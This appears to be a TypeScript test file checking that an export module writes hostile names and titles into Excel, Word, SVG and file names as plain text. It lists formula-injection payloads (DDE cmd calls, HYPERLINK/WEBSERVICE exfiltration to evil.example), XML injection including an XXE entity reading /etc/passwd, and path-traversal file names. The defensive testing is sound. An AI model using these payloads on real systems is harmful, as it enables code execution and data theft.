import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { createZone } from '../../src/calendar/zone.ts';
import { columnsOf } from '../../src/documents/ledger/columns.ts';
import type { LedgerLine } from '../../src/documents/ledger/line.ts';
import { fileName } from '../../src/documents/formats.ts';
import { escapeXml, text } from '../../src/documents/picture/svg.ts';
import { unpack } from '../../src/documents/reading/archive.ts';
import { bytesOf } from '../../src/documents/render.ts';
import { writeLedgerFile } from '../../src/documents/sheet/ledger-file.ts';
import { docxOf } from '../../src/documents/word/docx.ts';
import { paragraphOf } from '../../src/documents/word/official.ts';
import { openBook } from './open-book.ts';

const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', ' =', "'="];
const CALLS = [
  `HYPERLINK("http://evil.example/?"&A1,"点我")`,
  `cmd|' /C calc'!A0`,
  'WEBSERVICE("http://evil.example")',
  'SUM(1+1)*cmd',
  'IMPORTXML("http://evil.example","//a")',
  '1+1',
  'DDE("cmd";"/C calc";"x")',
  '2+5+cmd|" /C notepad"!A0',
  'A1:Z9',
  'EXEC("calc")',
];
/** Ten beginnings, ten calls, ten disguises: a thousand texts that a careless sheet would carry out. */
const FORMULAS = STARTS.flatMap((start) =>
  CALLS.flatMap((call) => Array.from({ length: 10 }, (_, i) => `${start}${call}${i === 0 ? '' : `;${i}`}`)),
);
const TAGS = [
  '<script>alert(1)</script>',
  '<image href="http://evil.example/x.png"/>',
  ']]><a xlink:href="javascript:x">',
  '<w:r><w:fldSimple w:instr="HYPERLINK http://evil.example"/></w:r>',
  '&lt;b&gt;&xxe;',
  '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
  '<foreignObject><iframe src="http://evil.example"/></foreignObject>',
  '" onload="alert(1)',
  "'/><use href='http://evil.example#x'/>",
  '<?xml version="1.0"?><!DOCTYPE x>',
];
const MARKUP = TAGS.flatMap((tag) => Array.from({ length: 100 }, (_, i) => `${i}号${tag}\u0000\u001B${i}`));
const PAYLOADS = [...FORMULAS, ...MARKUP];

describe('two thousand hostile names and titles', () => {
  it('are two thousand', () => {
    expect([new Set(FORMULAS).size, new Set(MARKUP).size]).toEqual([1_000, 1_000]);
  });

  it('are text in every cell of Excel, none a formula, none a link', async () => {
    const file = await bytesOf((out) =>
      writeLedgerFile(out, {
        columns: columnsOf(),
        lines: pages(),
        zone: createZone('Asia/Shanghai'),
        now: new Date(0),
      }),
    );
    const book = await openBook(file);
    const sheet = book.getWorksheet('台账');
    const titles: unknown[] = [];
    let alive = 0;
    sheet?.eachRow((row, at) => {
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.Hyperlink) alive += 1;
        if (typeof cell.value === 'string' && at > 1 && cell.numFmt !== '@') alive += 1;
      });
      if (at > 1) titles.push(row.getCell(6).value);
    });
    expect(alive).toBe(0);
    expect(titles).toHaveLength(2_000);
    expect(titles[0]).toBe(FORMULAS[0]);
    const parts = unpack(Buffer.from(file));
    expect(
      [...parts.keys()].filter((name) => /externalLink|connection|macro|vba|ctrlProp/i.test(name)),
    ).toEqual([]);
    const rels = [...parts]
      .filter(([name]) => name.endsWith('.rels'))
      .map(([, bytes]) => bytes.toString('utf8'));
    expect(rels.filter((xml) => xml.includes('External'))).toEqual([]);
  });

  it('are words in Word, none a field, none a link', async () => {
    const file = await docxOf({
      title: PAYLOADS[0] ?? '',
      subtitle: MARKUP[0] ?? '',
      to: FORMULAS[1] ?? '',
      paragraphs: PAYLOADS.map(paragraphOf),
      signature: [MARKUP[1] ?? ''],
      annexes: [
        { title: MARKUP[2] ?? '', columns: ['名称'], rows: PAYLOADS.slice(0, 50).map((one) => [one]) },
      ],
    });
    const parts = unpack(Buffer.from(file));
    const xml = parts.get('word/document.xml')?.toString('utf8') ?? '';
    const tags = new Set([...xml.matchAll(/<(\/?[\w:]+)/g)].map(([, name]) => (name ?? '').replace('/', '')));
    const known =
      /^w:(document|body|p|pPr|r|rPr|t|br|tbl\w*|tr\w*|tc\w*|sect\w*|pg\w*|footerReference|top|bottom|left|right|insideH|insideV|spacing|ind|jc|keep\w+|pageBreakBefore|rFonts|sz\w*|b|bCs|vAlign|gridCol|cantSplit|docGrid|cols|pgNumType)$/;
    expect([...tags].filter((tag) => !known.test(tag))).toEqual([]);
    expect((parts.get('word/_rels/document.xml.rels')?.toString('utf8') ?? '').includes('External')).toBe(
      false,
    );
    const fields = [...xml.matchAll(/instrText/g)];
    expect(fields).toEqual([]);
  });

  it('are words in the picture, and nothing else of it', () => {
    for (const payload of PAYLOADS) {
      const drawn = text(0, 0, payload, { size: 20, fill: '#000' });
      expect(drawn.match(/<[^>]*>/g)).toHaveLength(2);
      expect(drawn).toMatch(/^<text [^<>]*>[^<>]*<\/text>$/s);
    }
    expect(escapeXml(`<>&"'`)).toBe('&lt;&gt;&amp;&quot;&apos;');
  });

  it('are no paths, and turn no direction, as names of files', () => {
    for (const payload of [...PAYLOADS, '../../etc/passwd', 'a\u202Egnp.exe', 'CON', '']) {
      const name = fileName(payload, 'xlsx');
      expect(name).not.toMatch(/[\\/:*?"<>|\u0000-\u001F\u202A-\u202E]/);
      expect(name.endsWith('.xlsx')).toBe(true);
    }
  });
});

async function* pages(): AsyncGenerator<LedgerLine[]> {
  yield PAYLOADS.map((payload, index) => ({
    number: index + 1,
    object: payload,
    kind: '企业',
    category: payload,
    title: payload,
    detail: payload,
    group: payload,
    reporter: payload,
    lead: payload,
    assisting: payload,
    handler: payload,
    priority: '一般',
    reportedAt: new Date(0),
    dispatchedAt: null,
    acceptedAt: null,
    deadline: null,
    measure: payload,
    state: '办理中',
    result: payload,
    closedAt: null,
    satisfaction: '',
    overdue: '',
    returned: 0,
    reopened: 0,
    urged: 0,
    instruction: payload,
    remarks: payload,
  }));
}
